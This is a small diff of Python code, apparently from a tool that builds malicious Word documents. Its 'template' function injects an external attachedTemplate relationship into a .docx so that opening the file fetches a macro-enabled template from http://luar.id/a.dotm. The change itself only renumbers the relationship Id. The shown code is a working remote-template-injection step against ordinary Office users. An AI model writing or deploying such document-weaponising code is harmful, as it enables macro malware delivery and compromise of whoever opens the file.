@@ -58,7 +58,7 @@ def macro(held: dict[str, bytes]) -> None:
 def template(held: dict[str, bytes]) -> None:
     rels = "word/_rels/document.xml.rels"
     kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
-    relation = b'<Relationship Id="rId9" Type="' + kind + b'" Target="http://luar.id/a.dotm" TargetMode="External"/>'
+    relation = b'<Relationship Id="rId99" Type="' + kind + b'" Target="http://luar.id/a.dotm" TargetMode="External"/>'
     held[rels] = held[rels].replace(b"</Relationships>", relation + b"</Relationships>")
 
 
